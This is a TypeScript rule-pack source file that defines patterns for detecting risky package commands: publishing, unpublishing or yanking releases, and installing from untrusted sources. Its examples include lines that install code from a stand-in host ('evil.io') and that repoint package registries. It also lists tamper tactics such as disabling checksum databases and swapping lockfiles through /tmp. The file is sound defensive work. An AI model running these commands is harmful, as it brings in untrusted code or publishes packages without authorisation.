import { definePack } from '../rule.ts'

export const packages = definePack(
  'packages',
  `
DRY = --dry-run|--help|-h|-n

publish: publish · external · about operands
  npm|pnpm|yarn|bun|lerna|changeset|jsr|deno|vsce|ovsx|clasp publish, npm|yarn|pnpm npm publish · lacks {DRY}
  npm|pnpm|yarn|bun workspaces|-r|recursive ** publish, cargo publish · lacks {DRY}
  cargo release · has --execute|-x
  twine upload, python|python3 twine upload
  flit|poetry|uv|hatch|pdm|maturin publish|upload · lacks {DRY}
  gem push
  docker|podman|nerdctl|buildah|crane|oras push · lacks --help
  skopeo copy|sync * docker://*
  docker|podman|nerdctl image|compose|manifest|buildx push · lacks --help|--dry-run
  docker build|buildx · has --push
  docker build|buildx · words type=registry*|*push=true*
  dotnet|nuget ** push
  mvn|mvnw|./mvnw · lacks -DdryRun · words deploy|release:perform|release:prepare|*:deploy
  gradle|gradlew|./gradlew · lacks --dry-run|-m · words publish|publishplugins|uploadarchives|publishall*|publish*repository
  pod trunk push|delete, helm push|cm-push
  mix hex.publish · lacks --dry-run
  goreleaser release · lacks --snapshot|--skip|--help
  semantic-release|release-it|np · lacks --dry-run|--help|-d|--preview
  fastlane · words release|deliver|supply|pilot|upload_to_*|deploy|beta
  eas submit|update, chrome-webstore-upload|web-ext upload|publish|sign
  huggingface-cli|hf upload|upload-large-folder|repo
  npm|yarn|pnpm|bun run publish|publish:*|release|release:* · without *dry*
  make|just|task publish|release|upload · lacks -n|--dry-run
  + npm publish ¦ sudo npm publish --access public ¦ cargo --frozen publish ¦ python3 -m twine upload dist/x.whl
  + docker push a/b ¦ gem push a.gem ¦ mvn release:perform
  - npm publish --dry-run ¦ npm pack ¦ cargo build ¦ docker build . ¦ npm run build ¦ mvn package

unpublish: drop-data · external · about operands
  npm|pnpm|yarn unpublish|deprecate|owner|access|dist-tag|team · lacks {DRY} · without ls|list
  npm|yarn|pnpm npm unpublish|deprecate · lacks {DRY}
  cargo yank|owner, gem yank|owner, mix hex.retire|hex.owner, dotnet|nuget ** delete
  crane|oras|regctl|skopeo ** delete
  + npm unpublish my-package ¦ cargo yank --version 1.0.0 ¦ npm deprecate a 'old'
  - npm view a ¦ cargo search a ¦ npm owner ls a

untrusted-source: execute-remote · external · family install from elsewhere · about operands
  pip|pip3|uv|pipx|python|python3 ** install · words http://*|https://* · without https://github.com/*|git+https://github.com/*|https://files.pythonhosted.org/*|https://download.pytorch.org/*|https://pypi.org/*|*#egg=*
  pip|pip3|uv|pipx|python|python3 ** install · has --trusted-host
  npm|pnpm|yarn|bun install|i|add · words http://*|https://*.tar.gz|https://*.tgz|git+http*|git+ssh* · without *github.com*|*gitlab.com*|https://registry.*
  pip|pip3|uv|pdm|pipenv config set|edit · words *index-url*|*index_url*|*trusted-host*|*proxy*|*find-links* · without https://pypi.org/*
  poetry|gem|bundle|conda|mamba|nuget|composer config|sources|source · words http://*|*--append* · without *rubygems.org*|*pypi.org*|*nuget.org*
  npm|pnpm|yarn config set · words registry|*:registry|npmregistryserver|registry=*|strict-ssl|proxy|https-proxy · without https://registry.*
  gem sources · has -a|--add
  brew tap · has --custom-remote|--force-auto-update
  brew tap · words http*://* · without https://github.com/*
  go mod edit · words -replace=*=*.* · without -replace=*=./*|-replace=*=../*|-replace=*=/*
  go env · has -w · words gonosumdb*|gonosumcheck*|goflags*|gosumdb=off|goproxy=http:*
  mvn|mvnw|./mvnw · words -dmaven.repo.local=/tmp/*|-dmaven.wagon.http.ssl.insecure=true
  apt-key add|adv|del|net-update
  add-apt-repository · lacks -L|--list
  cp|mv · words /tmp/*|/dev/shm/*|/var/tmp/* · words go.sum|package-lock.json|yarn.lock|pnpm-lock.yaml|cargo.lock|poetry.lock|pipfile.lock|composer.lock|gemfile.lock|*/go.sum · operands 2-2
  + pip install http://a.b/p.tar.gz ¦ npm install git+https://evil.io/p.git ¦ npm config set registry http://a.b
  + gem sources --add http://a.b/
  - npm install lodash ¦ pip install -r requirements.txt ¦ npm ci ¦ pip install git+https://github.com/a/b
`,
)
